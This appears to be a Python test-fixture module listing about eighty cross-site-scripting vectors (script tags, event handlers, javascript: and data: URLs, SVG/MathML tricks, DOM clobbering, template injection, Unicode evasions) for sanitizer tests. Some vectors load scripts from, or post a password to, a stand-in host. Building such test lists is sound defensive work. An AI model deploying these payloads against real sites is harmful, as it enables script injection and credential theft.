"""Hostile pieces of HTML and text, written for these tests: what must stay words wherever it is shown.

A vector comes with a word of its own that a reader would see; it stands after the markup that could swallow it.
"""

from __future__ import annotations

from functools import cache
from pathlib import Path

#: markup that closes itself, so that several can stand in one document
VECTORS = (
    # scripts
    "<script>alert('s1')</script>",
    "<SCRIPT SRC=https://elsewhere.test/s2.js></SCRIPT>",
    "<script type=module>import 'https://elsewhere.test/s3.js'</script>",
    "<scr<script>ipt>alert('s4')</scr</script>ipt>",
    "<script\x0c>alert('s5')</script\x0c>",
    "<noscript><p title='</noscript><img src=x onerror=alert(6)>'></noscript>",
    "</textarea></title></style></script><script>alert('s7')</script>",
    "<script type='application/json' id='annotate-data'>{\"article\": null}</script>",
    "<script>document.cookie='planted=1'</script>",
    # handlers
    "<img src=x onerror=alert('h1')>",
    "<IMG SRC='x' OnErRoR=alert('h2')>",
    '<img src="x" onerror="&#97;lert(\'h3\')">',
    "<img/src='x'/onerror=alert('h4')>",
    "<body onload=alert('h5')>",
    "<details open ontoggle=alert('h6')><summary>h6</summary></details>",
    "<input autofocus onfocus=alert('h7')>",
    "<video><source onerror=alert('h8')></video>",
    "<audio src=x onerror=alert('h9')></audio>",
    "<marquee onstart=alert('h10')>h10</marquee>",
    "<p onpointerrawupdate=alert('h11') onmouseover=alert('h11')>h11</p>",
    "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=alert('h12')>h12</p>",
    # schemes
    "<a href=\"javascript:alert('u1')\">u1</a>",
    "<a href=\"java\tscript:alert('u2')\">u2</a>",
    "<a href=\"\x01javascript:alert('u3')\">u3</a>",
    '<a href="data:text/html,<script>alert(4)</script>">u4</a>',
    "<a href=\"vbscript:msgbox('u5')\">u5</a>",
    "<a href=\"&#x6A;avascript&colon;alert('u6')\">u6</a>",
    "<a href='//elsewhere.test/u7' ping='https://elsewhere.test/ping'>u7</a>",
    "<img srcset='https://elsewhere.test/u8.png 2x' src='https://elsewhere.test/u8.png'>",
    "<area href=\"javascript:alert('u9')\">",
    # SVG and MathML
    "<svg onload=alert('g1')></svg>",
    "<svg><script>alert('g2')</script></svg>",
    "<svg><a xlink:href=\"javascript:alert('g3')\"><text y=9>g3</text></a></svg>",
    "<svg><animate onbegin=alert('g4') attributeName=x dur=1s></svg>",
    "<svg><foreignObject><iframe src=\"javascript:alert('g5')\"></iframe></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(6)/>#x'></use></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('g7')></style></mglyph></table></mtext></math>",
    "<math href=\"javascript:alert('g8')\">g8</math>",
    # style
    "<style>body{background:url(https://elsewhere.test/c1)}</style>",
    "<div style='position:fixed;inset:0;z-index:99999;background:url(https://elsewhere.test/c2)'>c2</div>",
    "<link rel=stylesheet href=https://elsewhere.test/c3.css>",
    "<p style=\"width:expression(alert('c4'))\">c4</p>",
    "<style>@import 'https://elsewhere.test/c5.css';</style>",
    # the document
    "<meta http-equiv=refresh content='0;url=https://elsewhere.test/d1'>",
    "<base href=https://elsewhere.test/d2/>",
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    "<link rel=prefetch href=https://elsewhere.test/d4>",
    "<html manifest=https://elsewhere.test/d5>",
    # forms and frames
    "<form action=https://elsewhere.test/f1><input name=password><button>f1</button></form>",
    "<button form=login formaction=\"javascript:alert('f2')\">f2</button>",
    "<iframe src=https://elsewhere.test/f3></iframe>",
    "<iframe srcdoc=\"<script>parent.alert('f4')</script>\"></iframe>",
    "<object data=https://elsewhere.test/f5></object><embed src=https://elsewhere.test/f5.swf>",
    "<isindex action=\"javascript:alert('f6')\" type=submit>",
    # names that scripts of ours look for
    "<input name=csrfmiddlewaretoken value=planted><a id=annotate-data>n1</a><form id=document></form>",
    "<cw-annotator><label-picker></label-picker></cw-annotator>",
    # templates of servers and browsers
    "{{ request.user.password }}{% load static %}{% debug %}{{ 7|add:'1' }}",
    "${alert('t2')} #{alert('t2')} <%= alert('t2') %> [[${7*7}]]",
    "<template><img src=x onerror=alert('t3')></template>",
    "<x-y><template shadowrootmode=open><script>alert('t4')</script></template></x-y>",
    # letters
    "\u202e<script>alert('l1')</script>\u202c",
    "＜script＞alert('l2')＜/script＞ ‹script› <ſcript>alert('l2')</ſcript>",
    "+ADw-script+AD4-alert('l3')+ADw-/script+AD4-",
    "<img src=x one\u0301rror=alert('l4')>\u2028<b>\u2029l4</b>",
    "\"><img src=x onerror=alert('l5')>' onfocus=alert('l5') autofocus x='",
    "\\\"-alert('l6')}//</script><!-- l6 -->",
)
#: markup that would swallow what comes after it; one document each
UNCLOSED = (
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<script>alert('o2')",
    "<title><img src=x onerror=alert('o3')>",
    "<textarea><img src=x onerror=alert('o4')>",
    "<svg><style><img src=x onerror=alert('o5')>",
    "<img src='x' onerror='alert(`o6`)",
    "<table><td><form><table></form><script>alert('o7')</script>",
    "<plaintext><script>alert('o8')</script>",
    "<b <script>alert('o9')</script>0",
    "<select><template><svg><script>alert('o10')</script>",
)


def words_of(number: int) -> str:
    """Return words that stand beside a vector and must be kept."""
    return f"Der Pegel stieg um {number} Zentimeter."


@cache
def payloads(folder: Path) -> tuple[str, ...]:
    """Read the large outside list, one payload a line."""
    return tuple((folder / "data" / "xss" / "payloads.txt").read_text("utf-8", errors="replace").splitlines())
